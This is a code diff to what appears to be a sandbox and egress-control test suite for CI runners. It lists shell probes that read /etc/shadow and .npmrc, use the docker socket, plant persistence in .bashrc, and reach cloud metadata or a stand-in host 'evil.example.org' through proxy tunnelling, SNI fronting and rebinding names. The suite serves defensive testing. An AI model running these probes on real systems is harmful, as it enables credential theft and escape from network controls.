@@ -11,6 +11,8 @@ export interface Attempt {
   readonly script: string;
   /** Why it may succeed in a sandbox. */
   readonly harmless?: string;
+  /** Why it may succeed in one whose hosts are listed; left out: the same, unless that is the open network. */
+  readonly listed?: string;
 }
 
 const W = '/home/runner/work';
@@ -19,19 +21,29 @@ const C = `${W}/_temp/_runner_file_commands`;
 const each = (act: string): string =>
   `for p in /proc/[0-9]*; do grep -qsa "[m]ain.cjs" $p/cmdline || continue; ${act} && exit 0; done; exit 1`;
 
+/** Waits for what another process does. */
+const soon = (act: string): string => `for i in $(seq 100); do ${act} && exit 0; sleep 0.1; done; exit 1`;
+
 function group(
   name: string,
-  attempts: Readonly<Record<string, string | readonly [script: string, harmless: string]>>,
+  attempts: Readonly<Record<string, string | readonly [script: string, harmless: string, listed?: string]>>,
 ): Attempt[] {
-  return Object.entries(attempts).map(([attempt, given]) =>
-    typeof given === 'string'
-      ? { group: name, name: attempt, script: given }
-      : { group: name, name: attempt, script: given[0], harmless: given[1] },
-  );
+  return Object.entries(attempts).map(([attempt, given]) => {
+    if (typeof given === 'string') return { group: name, name: attempt, script: given };
+    const [script, harmless, why] = given;
+    return { group: name, name: attempt, script, harmless, ...(why !== undefined && { listed: why }) };
+  });
 }
 
 const GONE = 'lies in memory or in a folder of its own, and is gone with the sandbox';
 const OPEN = 'the network is open';
+const DIRECTLY = "curl -s -m20 --noproxy '*'";
+/** Where there is a proxy; otherwise the same without one. */
+const BY_PROXY = 'curl -s -m20 ${https_proxy:+-x $https_proxy}';
+/** A question for the address of evil.example.org, byte by byte. */
+const ASK_NAME_SERVER = String.raw`exec 3<>/dev/udp/93.184.216.34/53
+printf '\0\1\1\0\0\1\0\0\0\0\0\0\4evil\7example\3org\0\0\1\0\1' >&3
+timeout 20 head -c 30 <&3 | grep -q evil`;
 
 export const ATTEMPTS: readonly Attempt[] = [
   ...group('Rights', {
@@ -90,7 +102,7 @@ export const ATTEMPTS: readonly Attempt[] = [
     'reach one by a hard link': 'ln /home/runner/.npmrc hard && cat hard',
     'read /etc/shadow': 'grep -q root: /etc/shadow',
     'use the socket of docker': 'test -w /run/docker.sock || test -w /var/run/docker.sock',
-    'use a socket of the runner': `curl -s -m2 --unix-socket ${W}/_temp/action.sock http://x/ | grep -q secret`,
+    'use a socket of the runner': `curl -s -m20 --unix-socket ${W}/_temp/action.sock http://x/ | grep -q secret`,
   }),
   ...group('Later steps', {
     'write .bashrc': 'echo evil >> /home/runner/.bashrc',
@@ -108,7 +120,7 @@ export const ATTEMPTS: readonly Attempt[] = [
     'leave a file in /tmp': ['touch /tmp/planted', GONE],
     'leave a file in /dev/shm': ['touch /dev/shm/planted', GONE],
     'leave a process in the background': [
-      'setsid nohup sleep 61.77 > /dev/null 2>&1 & sleep 0.2; pgrep -f "sleep [6]1.77"',
+      `setsid nohup sleep 61.77 > /dev/null 2>&1 & ${soon('pgrep -f "sleep [6]1.77"')}`,
       GONE,
     ],
   }),
@@ -127,14 +139,55 @@ export const ATTEMPTS: readonly Attempt[] = [
     ],
   }),
   ...group('The network', {
-    'reach another service on localhost': ['curl -s -m2 http://127.0.0.1:$LAB_PORT/ | grep -q secret', OPEN],
-    'reach an abstract socket': ['curl -s -m2 --abstract-unix-socket agora-lab http://x/ | grep -q secret', OPEN],
+    'reach another service on localhost': ['curl -s -m20 http://127.0.0.1:$LAB_PORT/ | grep -q secret', OPEN],
+    'reach an abstract socket': ['curl -s -m20 --abstract-unix-socket agora-lab http://x/ | grep -q secret', OPEN],
     'use a port of its own': [
-      'python3 -m http.server 34561 --bind 127.0.0.1 & sleep 1; curl -s -m2 http://127.0.0.1:34561/ | grep -qi html',
+      `python3 -m http.server 34561 --bind 127.0.0.1 & ${soon('curl -s -m5 http://127.0.0.1:34561/ | grep -qi html')}`,
       'tests of the repository need it',
     ],
+    'reach an address of IPv4': [`${DIRECTLY} http://93.184.216.34/ | grep -q secret`, OPEN],
+    'reach an address of IPv6': [`${DIRECTLY} -g 'http://[2606:4700::1]/' | grep -q secret`, OPEN],
+    'reach a private address': [`${DIRECTLY} http://10.1.2.3/ | grep -q secret`, OPEN],
+    'reach the metadata of the cloud': [`${DIRECTLY} http://169.254.169.254/ | grep -q secret`, OPEN],
+    'exchange datagrams': [
+      'exec 3<>/dev/udp/93.184.216.34/7; echo secret >&3; timeout 20 head -c 7 <&3 | grep -q secret',
+      OPEN,
+    ],
+    'ask a name server': [ASK_NAME_SERVER, OPEN],
+    'look up a name': ['getent hosts evil.example.org', OPEN],
+    'reach a host that is not listed': [`${BY_PROXY} http://evil.example.org/ | grep -q secret`, OPEN],
+    'reach it in a tunnel': [`${BY_PROXY} -p http://evil.example.org/ | grep -q secret`, OPEN],
+    'reach it by another name of the same server (SNI)': [
+      `${BY_PROXY} -k --connect-to evil.example.org:443:listed.example.com:443 https://evil.example.org/ | grep -q secret`,
+      OPEN,
+    ],
+    'reach another port of a listed host': [`${BY_PROXY} http://listed.example.com:8080/ | grep -q secret`, OPEN],
+    'reach an address by the proxy': [`${BY_PROXY} http://93.184.216.34/ | grep -q secret`, OPEN],
+    'reach the metadata by the proxy': [`${BY_PROXY} -p http://169.254.169.254/ | grep -q secret`, OPEN],
+    'reach the metadata by a listed name': [`${BY_PROXY} http://rebind.example.com/ | grep -q secret`, OPEN],
+    'reach the machine by a listed name': [`${BY_PROXY} http://loop.example.com/ | grep -q secret`, OPEN],
+    'reach a private address by a listed name': [`${BY_PROXY} http://inner.example.com/ | grep -q secret`, OPEN],
+    'reach a listed host': listed(`${BY_PROXY} http://listed.example.com/ | grep -q secret`, 'it is on the list'),
+    'reach a listed host by TLS': listed(
+      `${BY_PROXY} -k https://listed.example.com/ | grep -q secret`,
+      'it is on the list',
+    ),
+    'reach a listed service on localhost': listed(
+      'curl -s -m20 http://127.0.0.1:$LAB_SERVICE/ | grep -q secret',
+      'it is among service-ports',
+    ),
   }),
 ];
+
+/** In an open network it is one of everything. */
+function listed(script: string, why: string): readonly [script: string, harmless: string, listed: string] {
+  return [script, OPEN, why];
+}
+
+/** Whether what an attempt got does no harm. */
+export function isHarmless({ harmless, listed: why }: Attempt, network: 'open' | 'allowlist'): boolean {
+  return network === 'open' ? harmless !== undefined : (why ?? harmless ?? OPEN) !== OPEN;
+}
 
 /** One script that tries everything and writes `name<TAB>got` or `name<TAB>-` to a file in the work tree. */
 export function renderAttack(): string {
@@ -142,7 +195,7 @@ export function renderAttack(): string {
   return [
     '#!/bin/bash',
     'try() {',
-    '  if timeout 6 bash -c "$2" > /dev/null 2>&1 < /dev/null; then got=got; else got=-; fi',
+    '  if timeout 60 bash -c "$2" > /dev/null 2>&1 < /dev/null; then got=got; else got=-; fi',
     '  printf "%s\\t%s\\n" "$1" "$got" >> results.tsv',
     '}',
     ...tries,
